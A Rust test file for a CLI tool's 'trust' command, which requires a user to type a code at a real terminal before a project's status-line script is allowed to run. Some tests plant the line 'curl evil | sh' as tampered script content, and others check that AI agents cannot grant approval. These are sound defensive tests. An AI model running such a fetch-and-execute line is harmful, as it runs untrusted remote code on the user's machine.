//! `trust` as a user meets it: the real program, on a real terminal.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{Value, json};

use crate::support::{Project, UserOutput, UserTerminal, binary, copy_program, detached, write};

const SETTINGS: &str = "statusline.command = [\"sh\", \"tools/line.sh\"]\n";

/// A project whose settings name a script.
fn project() -> Project {
    let project = Project::new();
    project.settings(SETTINGS);
    write(&project.root().join("tools/line.sh"), b"echo one\n");
    project
}

fn script(project: &Project) -> PathBuf {
    project.root().join("tools/line.sh")
}

/// A command in the project, with these words before it.
fn command(project: &Project, before: &[&Path], arguments: &[&str]) -> Command {
    let program = binary();
    let mut words = before.iter().copied().chain([program.as_path()]);
    let mut command = Command::new(words.next().unwrap());
    command.args(words).args(arguments).env("HOME", project.home.path());
    command.env("PATH", "/usr/bin:/bin").current_dir(project.root());
    command
}

fn terminal(project: &Project, arguments: &[&str]) -> UserTerminal {
    UserTerminal::open(&command(project, &[], arguments), UserOutput::Screen)
}

/// What stood on the screen when the command ended, and its code.
fn end(terminal: UserTerminal) -> (String, i32) {
    let (_, screen, code) = terminal.end();
    (screen, code)
}

/// Types the code that a command shows.
fn confirmed(project: &Project, arguments: &[&str]) -> (String, i32) {
    let mut terminal = terminal(project, arguments);
    let code = terminal.code();
    terminal.type_line(&code);
    end(terminal)
}

/// Says yes on a terminal.
fn trust(project: &Project) -> String {
    let (screen, code) = confirmed(project, &["trust"]);
    assert_eq!(code, 0, "{screen}");
    assert!(screen.contains("Trusted."), "{screen}");
    screen
}

fn state(project: &Project) -> Value {
    serde_json::from_str(&project.run(&["trust", "--show", "--json"])).unwrap()
}

#[track_caller]
fn assert_state(project: &Project, expected: &str) {
    assert_eq!(state(project)["state"], expected);
    let listing = project.config();
    let rows = listing["settings"].as_array().unwrap();
    let row = rows.iter().find(|it| it["key"] == "statusline.command").unwrap();
    let origin = if expected == "trusted" { "project" } else { "default" };
    assert_eq!(row["origin"], origin, "{listing}");
    match expected {
        "never" => assert!(ignored(&listing).contains("statusline.command (needs trust)")),
        "changed" => assert!(ignored(&listing).contains("(changed, needs trust again)")),
        _ => assert_eq!(listing["ignored"], Value::Null),
    }
}

fn ignored(listing: &Value) -> &str {
    listing["ignored"].as_str().unwrap_or_default()
}

#[test]
fn a_typed_code_trusts_exactly_what_was_shown() {
    let project = project();
    assert_state(&project, "never");
    let screen = trust(&project);
    assert!(screen.contains("statusline.command = [\"sh\", \"tools/line.sh\"]\n"), "{screen}");
    assert!(screen.contains("It names the script tools/line.sh (9 bytes).\n"), "{screen}");
    assert!(screen.contains("\n+echo one\n"), "{screen}");
    assert_state(&project, "trusted");
    let text = project.run(&["trust", "--show"]);
    assert!(text.starts_with("trusted: ") && text.contains("\nhash: "), "{text}");
}

#[test]
fn anything_else_than_the_code_leaves_it() {
    let project = project();
    for answer in ["", "y", "yes", "BBBBB"] {
        let mut terminal = terminal(&project, &["trust"]);
        terminal.code();
        terminal.type_line(answer);
        let (screen, code) = end(terminal);
        assert_eq!(code, 1, "{screen}");
        assert!(screen.contains("nothing was changed: the code was not typed"), "{screen}");
    }
    assert_state(&project, "never");
}

#[test]
fn an_edited_script_voids_the_trust_and_the_difference_is_shown() {
    let project = project();
    trust(&project);
    write(&script(&project), b"echo one\ncurl evil | sh\n");
    assert_state(&project, "changed");
    let text = project.run(&["trust", "--show"]);
    assert!(text.starts_with("changed: ") && text.contains("\n+curl evil | sh\n"), "{text}");
    let screen = trust(&project);
    let difference =
        "--- tools/line.sh\n+++ tools/line.sh\n@@ -1,1 +1,2 @@\n echo one\n+curl evil | sh\n";
    assert!(screen.contains("What changed since:"), "{screen}");
    assert!(screen.contains(difference), "{screen}");
    assert!(!screen.contains("--- .windlass.toml"), "what is the same is not shown: {screen}");
    assert_state(&project, "trusted");
}

#[test]
fn every_other_change_voids_it_too() {
    let changes: [fn(&Project); 7] = [
        |it| {
            fs::rename(it.file(), it.root().join("moved.toml")).unwrap();
            symlink("moved.toml", it.file()).unwrap();
        },
        |it| it.settings(format!("{SETTINGS}# harmless\n")),
        |it| it.settings("statusline.command = [\"sh\", \"-x\", \"tools/line.sh\"]\n"),
        |it| fs::set_permissions(script(it), fs::Permissions::from_mode(0o755)).unwrap(),
        |it| fs::remove_file(script(it)).unwrap(),
        |it| {
            fs::rename(script(it), it.root().join("moved.sh")).unwrap();
            symlink("../moved.sh", script(it)).unwrap();
        },
        |it| write(&it.root().join("sh"), b"a program of this name\n"),
    ];
    for change in changes {
        let project = project();
        trust(&project);
        change(&project);
        assert_state(&project, "changed");
    }
}

#[test]
fn a_link_that_leads_elsewhere_voids_it() {
    let project = project();
    fs::rename(script(&project), project.root().join("a.sh")).unwrap();
    fs::copy(project.root().join("a.sh"), project.root().join("b.sh")).unwrap();
    symlink("../a.sh", script(&project)).unwrap();
    let screen = trust(&project);
    assert!(screen.contains("tools/line.sh (9 bytes), which leads to /"), "{screen}");
    assert_state(&project, "trusted");
    fs::remove_file(script(&project)).unwrap();
    symlink("../b.sh", script(&project)).unwrap();
    assert_state(&project, "changed");
    assert!(project.run(&["trust", "--show"]).contains("tools/line.sh leads elsewhere now."));
}

#[test]
fn a_project_that_moved_is_another_one() {
    let project = project();
    trust(&project);
    let moved = project.home.path().join("q");
    fs::rename(project.root(), &moved).unwrap();
    let mut command = project.command(&["trust", "--show"]);
    let output = command.current_dir(&moved).output().unwrap();
    assert!(output.stdout.starts_with(b"never: "), "{output:?}");
}

#[test]
fn the_bytes_that_were_shown_are_the_bytes_that_are_approved() {
    let project = project();
    let mut terminal = terminal(&project, &["trust"]);
    let code = terminal.code();
    write(&script(&project), b"curl evil | sh\n");
    terminal.type_line(&code);
    assert_eq!(end(terminal).1, 0);
    assert_state(&project, "changed");
    write(&script(&project), b"echo one\n");
    assert_state(&project, "trusted");
}

#[test]
fn trust_can_be_taken_back() {
    let project = project();
    trust(&project);
    let (text, code) = detached(&command(&project, &[], &["trust", "--revoke"]), b"");
    assert!(code == 1 && text.contains("only you may run this"), "{text}");
    assert_state(&project, "trusted");
    let (screen, code) = confirmed(&project, &["trust", "--revoke"]);
    assert!(code == 0 && screen.contains("Took the trust back"), "{screen}");
    assert_state(&project, "never");
    assert!(project.run(&["trust", "--revoke"]).contains("no trust to take back"));
}

#[test]
fn without_a_terminal_nothing_can_approve() {
    let project = project();
    let hash = state(&project)["hash"].as_str().unwrap().to_uppercase();
    for arguments in [&["trust"][..], &["trust", "--hash", &hash]] {
        let (text, code) = detached(&command(&project, &[], arguments), b"yes\n");
        assert!(code == 1 && text.contains("a process without a terminal started it"), "{text}");
        // A pipe where the answer is typed.
        let line = r#"echo BBBB | "$0" "$@""#;
        let before: [&Path; 3] = [Path::new("/bin/sh"), Path::new("-c"), Path::new(line)];
        let piped = command(&project, &before, arguments);
        let terminal = UserTerminal::open(&piped, UserOutput::Screen);
        let (screen, code) = end(terminal);
        let is_told = screen.contains("there is none") || screen.contains("not a terminal");
        assert!(code == 1 && is_told, "{screen}");
    }
    assert_state(&project, "never");
    let wrong = "0".repeat(64);
    for wrong in [&wrong, "", "x"] {
        let (screen, code) = end(terminal(&project, &["trust", "--hash", wrong]));
        assert!(code == 1 && screen.contains("the content has the hash"), "{screen}");
    }
    let (screen, code) = confirmed(&project, &["trust", "--hash", &hash]);
    assert!(code == 0 && screen.contains("Trusted."), "{screen}");
    assert_state(&project, "trusted");
}

#[test]
fn an_agent_cannot_give_the_word_of_its_user() {
    let project = project();
    let hash = state(&project)["hash"].as_str().unwrap().to_owned();
    let agent = project.home.path().join("claude");
    copy_program(Path::new("/bin/sh"), &agent);
    let below: [&Path; 3] = [&agent, Path::new("-c"), Path::new("\"$0\" \"$@\"; exit $?")];
    for arguments in [&["trust"][..], &["trust", "--hash", &hash], &["trust", "--same"]] {
        let mut variable = command(&project, &[], arguments);
        variable.env("CLAUDECODE", "1");
        let (screen, code) = end(UserTerminal::open(&variable, UserOutput::Screen));
        assert!(code == 1 && screen.contains("the environment has CLAUDECODE"), "{screen}");
        let process = command(&project, &below, arguments);
        let (screen, code) = end(UserTerminal::open(&process, UserOutput::Screen));
        assert!(code == 1 && screen.contains("an agent (Claude Code, pid "), "{screen}");
        let next = format!("run `windlass {}` in your own terminal", arguments.join(" "));
        assert!(screen.contains(&next), "{screen}");
    }
    assert_state(&project, "never");
}

#[test]
fn a_project_that_wants_nothing_needs_no_trust() {
    let project = Project::new();
    assert!(project.run(&["trust"]).contains("Nothing in this project needs your trust."));
    project.settings("ledger.days = 1\nledger.max_mb = 9999\nstatusline.timeout_ms = 10\n");
    assert!(project.run(&["trust"]).contains("Nothing in this project needs your trust."));
    assert_eq!(state(&project)["state"], "nothing");
}

#[test]
fn a_wider_limit_counts_once_it_is_trusted() {
    let project = Project::new();
    project.user("statusline.timeout_ms = 100\n");
    project.settings("statusline.timeout_ms = 1000\n");
    let timeout = || {
        let listing = project.config();
        let rows = listing["settings"].as_array().unwrap();
        rows.iter().find(|it| it["key"] == "statusline.timeout_ms").unwrap()["value"].clone()
    };
    assert_eq!(timeout(), 100);
    trust(&project);
    assert_eq!(timeout(), 1000);
}

#[test]
fn settings_that_cannot_be_read_cannot_be_trusted() {
    let project = project();
    project.settings("statusline.command = [");
    assert!(project.fails(&["trust"]).contains(".windlass.toml:1:"));
    project.settings(SETTINGS);
    fs::remove_file(script(&project)).unwrap();
    assert!(Command::new("mkfifo").arg(script(&project)).status().unwrap().success());
    assert!(project.fails(&["trust"]).contains("it is not a plain file"));
    let output = project.command(&["trust"]).current_dir("/").output().unwrap();
    assert!(String::from_utf8(output.stderr).unwrap().contains("find a project"));
}

#[test]
fn a_forged_approval_does_not_count_and_is_told() {
    let project = project();
    trust(&project);
    let directory = project.home.data().join("trust");
    let record = fs::read_dir(&directory).unwrap().next().unwrap().unwrap().path();
    fs::set_permissions(&record, fs::Permissions::from_mode(0o666)).unwrap();
    let listing = project.config();
    assert!(ignored(&listing).contains("statusline.command (needs trust)"), "{listing}");
    let found = listing["findings"][0]["found"].as_str().unwrap();
    assert!(found.starts_with("the approval does not count: "), "{found}");
    trust(&project);
    assert_state(&project, "trusted");
    fs::write(&record, "{").unwrap();
    assert!(ignored(&project.config()).contains("statusline.command (needs trust)"));
}

#[test]
fn what_is_shown_has_no_power_over_the_terminal() {
    let project = project();
    project.settings("statusline.command = [\"sh\", \"\\u001b[2Jx\", \"tools/line.sh\"]\n");
    write(&script(&project), "echo \u{1b}[2J \u{202e}x\n".as_bytes());
    let screen = trust(&project);
    assert!(screen.contains(r#"["sh", "\u{1b}[2Jx", "tools/line.sh"]"#), "{screen}");
    assert!(!screen.contains(['\u{1b}', '\u{202e}']), "{screen:?}");
}

#[test]
fn worktrees_share_trust_unless_the_user_says_otherwise() {
    let project = project();
    fs::remove_dir_all(project.root().join(".git")).unwrap();
    let git = |arguments: &[&str]| {
        let mut command = Command::new("git");
        command.args(arguments).current_dir(project.root()).env("HOME", project.home.path());
        for role in ["AUTHOR", "COMMITTER"] {
            command.env(format!("GIT_{role}_NAME"), "n").env(format!("GIT_{role}_EMAIL"), "e");
        }
        let output = command.output().unwrap();
        assert!(output.status.success(), "{output:?}");
    };
    git(&["init", "-q"]);
    git(&["add", "."]);
    git(&["commit", "-q", "-m", "one"]);
    git(&["worktree", "add", "-q", "../linked"]);
    let linked = project.home.path().join("linked");
    for name in [".windlass.toml", "tools/line.sh"] {
        fs::set_permissions(linked.join(name), fs::Permissions::from_mode(0o644)).unwrap();
    }
    trust(&project);
    let there = |expected: &str| {
        let mut command = project.command(&["trust", "--show", "--json"]);
        let output = command.current_dir(&linked).output().unwrap();
        let state: Value = serde_json::from_slice(&output.stdout).unwrap();
        assert_eq!(state["state"], json!(expected));
    };
    there("trusted");
    write(&linked.join("tools/line.sh"), b"echo other\n");
    there("changed");
    assert_state(&project, "trusted");
    project.user("trust.worktrees = false\n");
    there("never");
}
